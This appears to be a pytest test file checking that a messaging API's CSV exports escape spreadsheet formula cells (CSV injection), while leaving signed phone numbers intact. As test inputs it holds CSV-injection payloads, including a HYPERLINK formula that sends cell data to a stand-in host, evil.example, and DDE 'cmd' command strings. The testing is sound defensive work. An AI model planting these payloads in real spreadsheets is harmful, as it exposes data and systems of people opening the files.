"""CSV exports neutralise cells a spreadsheet would run as formulas (OWASP "CSV injection"): a
cell starting with `=`, `+`, `-`, `@`, tab or carriage return gets a leading `'`, in every
export, on both backends, except a cell that is only a signed number (an E.164 phone number);
`csv_cells=raw` writes the values as stored."""

import csv
import io
import re

import httpx
import pytest

from app.api.csv import neutralised
from tests.support.bodies import click, incoming, receipt
from tests.support.harness import Harness, send_message
from tests.support.webhooks import post_stored

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
SAFE = ["'" + text for text in HOSTILE]
EXPORTS = [
    "/api/v1/receipts",
    "/api/v1/incoming",
    "/api/v1/clicks",
    "/api/v1/messages",
    "/api/v1/batches",
    "/api/v1/optouts",
    "/api/v1/optout-pushes",
]


async def export(client: httpx.AsyncClient, path: str, **params: str) -> list[dict[str, str]]:
    answer = await client.get(path, params={"format": "csv", "limit": "1000", **params})
    assert answer.status_code == 200, answer.text
    return list(csv.DictReader(io.StringIO(answer.text, newline="")))


def column(rows: list[dict[str, str]], name: str) -> list[str]:
    return sorted(row[name] for row in rows)


async def test_formula_cells_are_escaped_in_every_export(harness: Harness) -> None:
    client = harness.client
    for n, text in enumerate(HOSTILE):
        await post_stored(
            client, "incoming", incoming(f"4477009001{n:02d}", text, message_id=f"I{n}")
        )
        await post_stored(client, "receipt", receipt(f"R{n}", reference=text))
        await post_stored(client, "click", click(f"4477009001{n:02d}", f"M{n}", url=text))
        answer = await client.post(
            "/api/v1/batches",
            json={
                "name": text,
                "messages": [{"to": f"+4477009002{n:02d}", "text": "Hi", "reference": f"b{n}"}],
            },
        )
        assert answer.status_code == 202, answer.text
        await harness.settled_batch(answer.json()["id"])
        await send_message(harness, f"+4477009003{n:02d}", f"{text.strip()}-ref{n}")
    answer = await client.post(
        "/api/v1/optouts", json={"msisdn": "447700900999", "reason": HOSTILE[0]}
    )
    assert answer.status_code in (200, 201), answer.text

    assert column(await export(client, "/api/v1/incoming"), "body") == sorted(SAFE)
    assert column(await export(client, "/api/v1/receipts"), "reference") == sorted(SAFE)
    assert column(await export(client, "/api/v1/clicks"), "url") == sorted(SAFE)
    assert column(await export(client, "/api/v1/batches"), "name") == sorted(SAFE)
    references = column(await export(client, "/api/v1/messages"), "reference")
    assert all(ref[:1] not in "=+-@\t\r" for ref in references)
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")-ref0' in references
    reasons = [row["reason"] for row in await export(client, "/api/v1/optouts")]
    assert "'" + HOSTILE[0] in reasons
    for path in EXPORTS:
        for row in await export(client, path):
            for value in row.values():
                formula = value[:1] in ("=", "+", "-", "@", "\t", "\r")
                assert not formula or re.fullmatch(r"[+-][0-9]+", value), (path, value)

    raw = await export(client, "/api/v1/incoming", csv_cells="raw")
    assert column(raw, "body") == sorted(HOSTILE)
    json_page = (await client.get("/api/v1/incoming")).json()["items"]
    assert sorted(item["body"] for item in json_page) == sorted(HOSTILE)


@pytest.mark.parametrize("value", ["nope", "RAW", ""])
async def test_an_unknown_csv_cells_value_is_refused(harness: Harness, value: str) -> None:
    answer = await harness.client.get(
        "/api/v1/receipts", params={"format": "csv", "csv_cells": value}
    )
    assert answer.status_code == 422
    assert "csv_cells" in answer.text


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("+447700900123", "+447700900123"),
        ("-12", "-12"),
        ("-1.5", "-1.5"),
        ("+44 7700 900123", "'+44 7700 900123"),
        ("+1+1", "'+1+1"),
        ("+1e5", "'+1e5"),
        ("-1;cmd", "'-1;cmd"),
        ("+447700900123\n=1+1", "'+447700900123\n=1+1"),
    ],
)
def test_a_cell_that_is_only_a_signed_number_is_left_as_it_is(cell: str, written: str) -> None:
    assert neutralised(cell) == written
